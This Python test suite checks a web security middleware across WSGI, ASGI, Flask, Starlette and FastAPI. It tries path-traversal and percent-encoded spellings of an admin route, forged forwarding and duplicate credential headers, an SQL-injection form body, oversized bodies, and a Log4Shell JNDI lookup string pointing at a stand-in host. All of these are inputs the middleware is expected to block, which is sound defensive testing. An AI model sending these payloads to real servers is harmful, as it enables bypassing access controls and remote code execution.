"""Ways past the bridges, each tried: spellings, methods, mount points, smuggled headers, WebSockets."""

from __future__ import annotations

import asyncio
import json
import unittest
from typing import Any
from unittest import mock

import security
from engine_case import VALUES
from fastapi import Depends, FastAPI, WebSocket
from flask import Blueprint, Flask
from security.adapters import asgi, wsgi
from security.adapters import fastapi as fastapi_adapter
from starlette.applications import Starlette
from starlette.responses import PlainTextResponse
from starlette.routing import Mount, Route
from test_adapter_parity import GOOD, Given, ParityCase, asgi_app, flask_app, through_asgi, through_wsgi, wsgi_app
from test_request_bodies import ATTACK, FORM, Sent, post_asgi, post_wsgi
from werkzeug.middleware.dispatcher import DispatcherMiddleware

# What any server, proxy or framework might take for /admin/panel. A `?` would end the path.
SPELLINGS = (
    b"/admin/panel",
    b"/admin/",
    b"//admin/panel",
    b"///admin",
    b"/./admin/panel",
    b"/x/../admin/panel",
    b"/admin;x=1/panel",
    b"/admin;x",
    b"/ADMIN/panel",
    b"/%61dmin/panel",
    b"/%2561dmin/panel",
    b"/%2e/admin/panel",
    b"/x/%2e%2e/admin/panel",
    b"/x/..%2fadmin",
    b"/x%2f..%2fadmin",
    b"/%2fadmin",
    b"/admin%2fpanel",
    b"/admin%00",
    b"/admin%20",
    b"/admin%0a",
    b"/admin%09/panel",
    b"/\\admin\\panel",
    b"/x/..\\admin",
    b"/%5cadmin",
    b"/health/../admin/panel",
    b"/static/..%2f..%2fadmin",
)


class Paths(ParityCase):
    def test_every_spelling_of_a_sensitive_path_by_every_method(self) -> None:
        for bridge, ask in self.bridges().items():
            self.begin_again()
            for method in ("GET", "HEAD", "OPTIONS", "POST", "TRACE", "ADMIN"):
                for spelling in SPELLINGS:
                    with self.subTest(bridge, method=method, path=spelling):
                        self.assertEqual(ask(Given(method=method, path=spelling)).status, 403)

    def test_applications_below_others(self) -> None:
        """A middleware around the whole sees the whole path; nobody can be mounted out of its sight."""
        self.begin_again()

        def inner(_environ: Any, start_response: Any) -> list[bytes]:
            start_response("200 OK", [])
            return [b"inner"]

        outer = Flask(__name__)
        outer.wsgi_app = DispatcherMiddleware(outer.wsgi_app, {"/admin": inner, "/open": inner})  # type: ignore[method-assign]
        security.create_security_middleware(outer)
        mounted = wsgi.SecurityMiddleware(DispatcherMiddleware(inner, {"/admin": inner}))

        async def page(_request: Any) -> PlainTextResponse:
            return PlainTextResponse("inner")

        below: Any = Starlette(routes=[Route("/{rest:path}", page)])
        starlette: Any = Starlette(routes=[Mount("/admin", below), Mount("/open", below)])
        starlette.add_middleware(asgi.SecurityMiddleware)
        fast = FastAPI()
        fast.mount("/admin", below)
        fast.mount("/open", below)
        fastapi_adapter.install(fast)
        for through, app in (
            (through_wsgi, outer),
            (through_wsgi, mounted),
            (through_asgi, starlette),
            (through_asgi, fast),
        ):
            self.assertEqual(through(app, Given(path=b"/open/x")).body, b"inner")
            for spelling in (b"/admin/x", b"//admin/x", b"/%61dmin/x", b"/open/../admin/x"):
                self.assertEqual(through(app, Given(path=spelling)).status, 403, spelling)

    def test_a_mounted_one_with_a_middleware_of_its_own_is_judged_once(self) -> None:
        self.begin_again(limits={"client": "3/hour"})
        below: Any = Starlette(routes=[Route("/", lambda _request: PlainTextResponse("inner"))])
        below.add_middleware(asgi.SecurityMiddleware)
        above: Any = Starlette(routes=[Mount("/below", below)])
        above.add_middleware(asgi.SecurityMiddleware)
        answers = [through_asgi(above, Given(path=b"/below/")).status for _ in range(4)]
        self.assertEqual(answers, [200, 200, 200, 429])


class Smuggling(ParityCase):
    def test_a_strangers_value_is_no_judgement(self) -> None:
        """Another library may use the name `security` in the environ or the scope."""
        blueprint = Blueprint("b", __name__)
        security.create_security_middleware(blueprint)
        blueprint.add_url_rule("/admin/panel", "panel", lambda: "inside")
        plain = Flask(__name__)
        plain.register_blueprint(blueprint)
        given = Given(path=b"/admin/panel")
        for value in ("theirs", {"client_ip": "127.0.0.1"}, object()):
            for app in (flask_app(), wsgi_app(), plain):

                def foreign(environ: Any, start_response: Any, app: Any = app, value: Any = value) -> Any:
                    environ["security"] = value
                    return app(environ, start_response)

                self.assertEqual(through_wsgi(foreign, given).status, 403)
            over_asgi = asgi_app()

            async def foreign_asgi(
                scope: Any, receive: Any, send: Any, app: Any = over_asgi, value: Any = value
            ) -> None:
                scope["security"] = value
                scope["state"] = {"security": value}
                await app(scope, receive, send)

            self.assertEqual(through_asgi(foreign_asgi, given).status, 403)

    def test_what_passes_for_the_content_type(self) -> None:
        """A server that keeps underscores hands `Content_Type` over as HTTP_CONTENT_TYPE."""
        form = b"q=1%27+or+1%3D1--"
        app = wsgi_app()
        for name in ("HTTP_CONTENT_TYPE", "HTTP_CONTENT_LENGTH"):
            more = {name: "image/png" if name.endswith("TYPE") else "0"}
            self.assertEqual(post_wsgi(app, Sent(form, FORM), **more)[0], 403)

    def test_two_content_types(self) -> None:
        """Some frameworks take the first line and some the last: what is a form to one is a picture to another."""
        form = b"q=1%27+or+1%3D1--"
        for first, second in ((FORM, "image/png"), ("image/png", FORM)):
            sent = Sent(form, f"{first},{second}")
            self.assertEqual(post_wsgi(wsgi_app(), sent)[0], 415)
            lines = [(b"content-type", first.encode()), (b"content-type", second.encode()), (b"content-length", b"17")]
            self.assertEqual(post_asgi(asgi_app(), Sent(form), headers=lines)[0], 415)

    def test_a_second_line_of_the_key_is_no_guess(self) -> None:
        for bridge, ask in self.bridges().items():
            self.begin_again()
            for lines in (
                ((b"X-API-Key", GOOD), (b"X-API-Key", b"b")),
                ((b"X-API-Key", b"b"), (b"X-API-Key", GOOD)),
                ((b"Authorization", b"Bearer " + GOOD), (b"Authorization", b"Bearer b")),
                ((b"X-API-Key", b"b"), (b"Authorization", b"Bearer " + GOOD)),
            ):
                with self.subTest(bridge, lines=lines):
                    answered = ask(Given(path=b"/bare", headers=lines))
                    self.assertEqual(
                        (answered.status, json.loads(answered.body)["error"]), (400, "conflicting-credentials")
                    )

    def test_a_key_of_the_operators_own_may_hold_a_comma(self) -> None:
        with mock.patch.dict("os.environ", {**VALUES, "API_KEY": "with,a,comma-in-the-key-77"}):
            self.reopen()
            app = wsgi_app()
            headers = ((b"X-API-Key", b"with,a,comma-in-the-key-77"),)
            self.assertEqual(through_wsgi(app, Given(path=b"/bare", headers=headers)).status, 200)
            wrong = Given(path=b"/bare", headers=((b"X-API-Key", b"with,a,guess"),), ip="198.51.100.9")
            answers = [through_wsgi(app, wrong).status for _ in range(7)]
            self.assertEqual((answers[0], answers[-1]), (400, 429), "guesses are counted whatever they look like")

    def test_forwarding_headers_of_strangers(self) -> None:
        for bridge, ask in self.bridges().items():
            self.begin_again()
            for name in (
                b"X-Forwarded-For",
                b"Forwarded",
                b"X-Real-IP",
                b"X-Client-IP",
                b"CF-Connecting-IP",
                b"Client-IP",
            ):
                value = b"for=127.0.0.1" if name == b"Forwarded" else b"127.0.0.1"
                with self.subTest(bridge, header=name):
                    self.assertEqual(ask(Given(path=b"/admin/panel", headers=((name, value),))).status, 403)


class WebSockets(ParityCase):
    def shake(self, app: Any, path: str, headers: Any = ()) -> list[Any]:
        sent: list[Any] = []
        waiting: list[Any] = [{"type": "websocket.connect"}, {"type": "websocket.disconnect", "code": 1000}]

        async def receive() -> Any:
            return waiting.pop(0)

        async def send(message: Any) -> None:
            sent.append(message)

        scope = {
            "type": "websocket",
            "path": path,
            "root_path": "",
            "query_string": b"",
            "headers": [(b"host", b"x"), *headers],
            "client": ("198.51.100.1", 1),
            "subprotocols": [],
            "state": {},
        }
        asyncio.run(app(scope, receive, send))
        return sent

    def make(self, installed: bool) -> FastAPI:
        app = FastAPI()
        if installed:
            fastapi_adapter.install(app)

        reader = Depends(fastapi_adapter.require_api_key(scopes=["read"]))

        @app.websocket("/live")
        async def live(socket: WebSocket, key: Any = reader) -> None:
            await socket.accept()
            await socket.send_json(key)
            await socket.close()

        return app

    def test_a_dependency_guards_a_websocket(self) -> None:
        issued = security.issue_api_key("reader", scopes=["read"])
        for installed in (True, False):
            app = self.make(installed)
            for headers in ((), ((b"x-api-key", b"wrong"),)):
                sent = self.shake(app, "/live", headers)
                self.assertEqual([message["type"] for message in sent], ["websocket.close"])
            key = ((b"x-api-key", issued["key"].encode()),)
            sent = self.shake(app, "/live", key)
            self.assertEqual([m["type"] for m in sent], ["websocket.accept", "websocket.send", "websocket.close"])
            self.assertEqual(json.loads(sent[1]["text"])["id"], issued["id"])

    def test_a_handshake_is_judged_as_any_request(self) -> None:
        app = self.make(True)
        key = (b"x-api-key", GOOD)
        for path in ("/admin", "//admin/x", "/live/../admin"):
            self.assertEqual([m["type"] for m in self.shake(app, path, (key,))], ["websocket.close"])
        attack = (b"user-agent", b"${jndi:ldap://x.example/a}")
        self.assertEqual([m["type"] for m in self.shake(app, "/live", (key, attack))], ["websocket.close"])


class Errors(ParityCase):
    def test_a_stream_that_breaks_tells_nothing(self) -> None:
        def broken(_environ: Any, start_response: Any) -> Any:
            start_response("200 OK", [("Content-Type", "text/plain")])
            yield b"first"
            raise RuntimeError("the password is in this message")

        app: Any = wsgi.SecurityMiddleware(broken)
        body = app(dict(GET), lambda *_: None)
        with self.assertRaisesRegex(RuntimeError, "password"):
            list(body)

    def test_a_stream_is_handed_on_piece_by_piece(self) -> None:
        made: list[int] = []

        def stream(_environ: Any, start_response: Any) -> Any:
            start_response("200 OK", [])
            for number in range(3):
                made.append(number)
                yield b"%d" % number

        app: Any = wsgi.SecurityMiddleware(stream)
        pieces = iter(app(dict(GET), lambda *_: None))
        self.assertEqual((next(pieces), made), (b"0", [0]))

        async def main() -> list[Any]:
            order: list[Any] = []

            async def app(_scope: Any, _receive: Any, send: Any) -> None:
                await send({"type": "http.response.start", "status": 200, "headers": []})
                for number in range(3):
                    order.append(number)
                    await send({"type": "http.response.body", "body": b"x", "more_body": True})

            async def send(message: Any) -> None:
                order.append(message["type"].rpartition(".")[2])

            scope: dict[str, Any] = {"type": "http", "method": "GET", "path": "/", "headers": [], "client": None}
            await asgi.SecurityMiddleware(app)(scope, None, send)  # type: ignore[arg-type]
            return order

        self.assertEqual(asyncio.run(main()), ["start", 0, "body", 1, "body", 2, "body"])

    def test_an_application_that_takes_every_error_for_its_own_hides_no_limit(self) -> None:
        """It catches what is raised when the body is too large, and answers 200: the client hears 413."""

        async def app(_scope: Any, receive: Any, send: Any) -> None:
            try:
                while (await receive()).get("more_body"):
                    pass
            except Exception as error:
                self.seen = error
            await send({"type": "http.response.start", "status": 200, "headers": []})
            await send({"type": "http.response.body", "body": b"fine"})

        sent = Sent(b"x" * 5000, "image/png", chunk=1000, length=None)
        over = asgi.SecurityMiddleware(app, {"bodies": {"max_bytes": 3000}})
        self.assertEqual(post_asgi(over, sent)[0], 413)

        def generator(environ: Any, start_response: Any) -> Any:
            read = environ["wsgi.input"].read()
            start_response("200 OK", [])
            yield b"%d" % len(read)

        lazy = wsgi.SecurityMiddleware(generator, {"bodies": {"max_bytes": 3000}, "inspection": {"max_bytes": 500}})
        for size, status in ((3000, 200), (3001, 413), (60_000, 413)):
            self.assertEqual(post_wsgi(lazy, Sent(b"x" * size, "text/plain", length=None))[0], status)

        fast = FastAPI()

        @fast.post("/echo")
        async def echo(body: dict[str, Any]) -> Any:
            return body

        fastapi_adapter.install(fast, {"bodies": {"max_bytes": 3000}, "inspection": {"max_bytes": 500}})
        padded = Sent(b'{"a": 1' + b" " * 5000 + b"}", chunk=1000, length=None)
        self.assertEqual(post_asgi(fast, padded)[0], 413)
        self.assertEqual(post_asgi(fast, Sent(b'{"a": 1}')), (200, b'{"a":1}'))
        self.assertEqual(post_asgi(fast, Sent(ATTACK))[0], 403)


GET: dict[str, Any] = {"REQUEST_METHOD": "GET", "PATH_INFO": "/", "REMOTE_ADDR": "198.51.100.1"}


if __name__ == "__main__":
    unittest.main()
